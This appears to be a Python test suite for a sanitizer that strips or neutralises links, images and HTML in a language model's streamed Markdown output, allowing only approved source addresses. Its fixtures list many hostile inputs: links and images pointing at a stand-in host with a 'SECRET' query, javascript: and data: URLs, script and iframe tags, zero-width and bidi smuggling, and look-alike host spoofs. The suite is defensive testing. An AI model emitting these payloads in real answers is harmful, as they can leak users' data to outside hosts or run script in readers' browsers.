"""No words of a model lead a reader's browser anywhere but to the sources."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from core.outbound import Outlet, safe_markdown, visible

EVIL = "https://evil.example/?q=SECRET"
GOOD = "https://docs.example.org/leave"
READERS = (MarkdownIt("commonmark"), MarkdownIt("commonmark").enable("table"), MarkdownIt("js-default", {"html": True}))

SHAPES = [
    f"[click]({EVIL})",
    f"![picture]({EVIL})",
    f"[![picture]({EVIL})]({EVIL})",
    f"![picture]({EVIL} 'title')",
    f'[click](<{EVIL}> "title")',
    f"[click]( {EVIL} )",
    f"[click][ref]\n\n[ref]: {EVIL}",
    f"![picture][ref]\n\n[ref]: {EVIL} 'title'",
    f"[ref]\n\n[ref]:\n  {EVIL}",
    f"[ref][]\n\n   [ref]: <{EVIL}>",
    f"> [ref]: {EVIL}\n\n[ref]",
    f"- [ref]: {EVIL}\n\n[ref]",
    f"[a\nb]: {EVIL}\n\n[a b]",
    f"<{EVIL}>",
    EVIL,
    "www.evil.example/?q=SECRET",
    "evil.example/path?q=SECRET",
    "ftp://evil.example/SECRET",
    "javascript:alert(document.cookie)",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,AAAA)",
    "<javascript:alert(1)>",
    f'<img src="{EVIL}">',
    f"<a href='{EVIL}'>click</a>",
    f"<script src={EVIL}></script>",
    f"<iframe/src={EVIL}>",
    f"<!-- <img src={EVIL}> -->",
    f"<style>@import '{EVIL}'</style>",
    f"[text [nested]]({EVIL})",
    f"[text\nover lines]({EVIL})",
    f"[text\\]]({EVIL})",
    f"\\\\[text]({EVIL})",
    f"`code` [click]({EVIL})",
    f"`open [click]({EVIL})",
    f"``open ` [click]({EVIL})",
    f"| `a | [click]({EVIL}) ` |\n|---|---|\n| `b | [click]({EVIL}) ` c` |",
    f"| a | b |\n|---|---|\n| `a|b` x `c [y]({EVIL})` | z |",
    f"- ```\n  x\n  ```\n![p]({EVIL})",
    f"1. a\n   ```\n   x\n![p]({EVIL})",
    f"1. a\n   ```\n      ```\n   ![p]({EVIL})",
    f"> ```\n![p]({EVIL})",
    f"~~~\nx\n~~~\n![p]({EVIL})",
    f"    ```\n![p]({EVIL})",
    f"``` a`b\n![p]({EVIL})",
    f"[x]({GOOD}#`) `[y]({EVIL})`",
    f"[c\u200blick]\u200b({EVIL})",
    f"[click]\u202e({EVIL})",
    "h\u200bttps://evil.example/?q=SECRET",
    f"[click]({EVIL}" + "x" * 3000 + ")",
    "y" * 2100 + f"]({EVIL})",
    "[" + "y" * 2100 + f"]({EVIL})",
    f"\\{EVIL}",
    f"\\{EVIL}[x]({EVIL})",
    f"{EVIL}``\t[x]({EVIL})``",
    f"{EVIL}`` [x]({EVIL}) [y]({EVIL})``",
    f"\\\\{EVIL} \\\\\\{EVIL}",
]


def walk(tokens: list[Token]) -> list[Token]:
    return [found for token in tokens for found in (token, *walk(token.children or []))]


def dangers(markdown: str) -> list[str]:
    """Whatever a reader's browser could follow, as three readers of Markdown see it."""
    found: list[str] = []
    for reader in READERS:
        for token in walk(reader.parse(markdown)):
            if token.type in ("html_block", "html_inline"):
                found.append(token.content)
            if token.type in ("link_open", "image"):
                target = str(token.attrGet("href") or token.attrGet("src"))
                if target.partition("#")[0] != GOOD:
                    found.append(target)
    return found


def streamed(text: str, sizes: list[int]) -> str:
    outlet, out, at = Outlet(frozenset({GOOD})), "", 0
    for turn in range(len(text) + 1):
        size = sizes[turn % len(sizes)]
        out += outlet.feed(text[at : at + size])
        at += size
        if at >= len(text):
            break
    return out + outlet.close()


@pytest.mark.parametrize("text", SHAPES)
def test_no_shape_of_a_link_gets_out(text: str) -> None:
    for made in (safe_markdown(text, {GOOD}), streamed(text, [1]), streamed(text, [3, 7]), streamed(text, [100])):
        assert dangers(made) == [], made
        assert not any(mark in made for mark in "\u200b\u202e")


@pytest.mark.parametrize("text", SHAPES[:25])
def test_bare_addresses_stand_in_code(text: str) -> None:
    made = safe_markdown(text)
    for reader in READERS:
        shown = "".join(token.content for token in walk(reader.parse(made)) if token.type == "text")
        assert "evil.example/" not in shown, made


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"See [the page]({GOOD}).", f"See [the page]({GOOD})."),
        (f"![plan]({GOOD})", f"![plan]({GOOD})"),
        (f"See [here]({GOOD}#carry-over)", f"See [here]({GOOD}#carry-over)"),
        (f"See <{GOOD}>", f"See <{GOOD}>"),
        (f"See {GOOD}.", f"See <{GOOD}>."),
        (f"See [the page]({EVIL}).", f"See the page (`{EVIL}`)."),
        (f"![plan]({EVIL})", "plan"),
        (f"[{EVIL}]({EVIL})", f"`{EVIL}`"),
        (f"Go to {EVIL}, then stop.", f"Go to `{EVIL}`, then stop."),
        ("28 days a year [1][2], see [3]; 见【4】。", "28 days a year [1][2], see [3]; 见【4】。"),
        ("**Bold**, *it*, ~~no~~, a < b, x <= 3, 1 < 2 > 0", "**Bold**, *it*, ~~no~~, a < b, x <= 3, 1 < 2 > 0"),
        (
            "# Title\n\n- a\n- b\n\n| a | b |\n|---|---|\n| 1 | 2 |",
            "# Title\n\n- a\n- b\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        ),
        ("Use `curl https://x.example/a` now", "Use `curl https://x.example/a` now"),
        ("```sh\ncurl https://x.example/<id>\n\n\n\n\nls [a](b)\n```\nend", None),
        ("1. Run:\n   ```sh\n   ls <x>\n   ```\n2. Done", "1. Run:\n   ```sh\n   ls <x>\n   ```\n2. Done"),
        ("List<int> x", "List\\<int> x"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("a\n\n\n\n\n\n\nb", "a\n\n\nb"),
        ("family 👨\u200d👩\u200d👧 and a\u200db", "family 👨\u200d👩\u200d👧 and ab"),
        ("\x1b[31mred\x1b[0m \x07bell", "[31mred[0m bell"),
        ("Z\u0300\u0301\u0302\u0303\u0304\u0305algo", "Z\u0300\u0301\u0302algo"),
        ("tag\U000e0041\U000e0042 smuggled", "tag smuggled"),
        ("handbook/leave.md? Yes, leave.md.", "handbook/leave.md? Yes, leave.md."),
        ("请看 https://x.example/a，然后…", "请看 `https://x.example/a`，然后…"),
    ],
)
def test_what_is_left_and_what_is_made_of_the_rest(text: str, expected: str | None) -> None:
    expected = text if expected is None else expected
    assert safe_markdown(text, {GOOD}) == expected
    assert streamed(text, [1]) == expected
    assert streamed(text, [2, 5]) == expected


FRAGMENTS = st.sampled_from(
    [
        *("`", "``", "```", "~~~", "[", "]", "(", ")", "](", "]:", "![", "<", ">", "|", "\\", "\n", "\n\n", "\r", " "),
        *("   ", "    ", "- ", "> ", "1. ", "a", "b c", "*", "_", ":", '"', "'", "&lt;", "\t", "www.", "<a", "|---|"),
        *("\u200d", "年", EVIL, GOOD, f"[x]({EVIL})", f"![x]({EVIL})", f"[x]: {EVIL}", f"<{EVIL}>", f"[x]({GOOD})"),
        *("[x]", "#", "=", "---"),
    ]
)


@settings(max_examples=200, deadline=None)
@given(st.lists(FRAGMENTS, max_size=30).map("".join), st.lists(st.integers(1, 9), min_size=1, max_size=3))
def test_nothing_gets_out_whatever_is_put_together(text: str, sizes: list[int]) -> None:
    assert dangers(safe_markdown(text, {GOOD})) == []
    assert dangers(streamed(text, sizes)) == []


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=200), st.lists(st.integers(1, 9), min_size=1, max_size=3))
def test_pieces_join_to_the_same_result(text: str, sizes: list[int]) -> None:
    assert streamed(text, sizes) == safe_markdown(text, {GOOD})


def test_words_come_out_while_they_arrive() -> None:
    outlet = Outlet(frozenset())
    assert outlet.feed("Annual leave ") == "Annual leave "
    assert outlet.feed("is 28 days [") == "is 28 days "
    assert outlet.feed("1] and ") == "[1] and "
    assert outlet.feed("年假为二十八天") == "年假为二十八天"
    assert outlet.feed(" [the ") == " "
    assert outlet.feed("page](http") == ""
    assert outlet.feed("s://x.example) ") == "the page (`https://x.example`) "


@pytest.mark.parametrize(
    "piece",
    [
        *("[", "]", "`", "``a", "` ", "<", "](", "![", "a.", "http://", "\\", "\u0300", "\u200d", "~~~\n", "```\n"),
        *("- ", "[a](", "a-"),
    ],
)
def test_hostile_text_takes_linear_time(piece: str) -> None:
    text = piece * (20_000 // len(piece))
    begun = time.process_time()
    safe_markdown(text)
    streamed(text, [50])
    visible(text)
    assert time.process_time() - begun < 0.5


@pytest.mark.parametrize("url", ["https://wiki.example.org", "https://WIKI.example.org:8443/a?b=c#d"])
def test_an_address_of_an_allowed_host_may_be_linked_but_not_shown(url: str) -> None:
    def out(text: str) -> str:
        outlet = Outlet(frozenset(), frozenset({"wiki.example.org"}))
        return outlet.feed(text) + outlet.close()

    assert out(f"[it]({url})") == f"[it]({url})"
    assert out(f"see {url} there") == f"see <{url}> there"
    assert "](" not in out(f"![it]({url})")


@pytest.mark.parametrize(
    "url",
    [
        "http://wiki.example.org/",
        "https://wiki.example.org.evil.example/",
        "https://evil.wiki.example.org/",
        "https://evil.example/wiki.example.org",
        "https://wiki.example.org@evil.example/",
        "https://wiki.example.org:x@evil.example/",
        "https://wiki.example.org%2eevil.example/",
        "https://wiki.example.org\uff0fevil.example/",
        "https:wiki.example.org",
        "javascript://wiki.example.org/%0aalert(1)",
    ],
)
def test_an_address_that_only_looks_like_an_allowed_host_leads_nowhere(url: str) -> None:
    outlet = Outlet(frozenset(), frozenset({"wiki.example.org"}))
    said = outlet.feed(f"[it]({url}) and <{url}> and {url} .") + outlet.close()
    for reader in READERS:
        children = [child for token in reader.parse(said) for child in token.children or []]
        found = {str(child.attrs["href"]) for child in children if child.type == "link_open"}
        assert found <= {"https://wiki.example.org"}, said  # as far as it goes, it is what it looks like
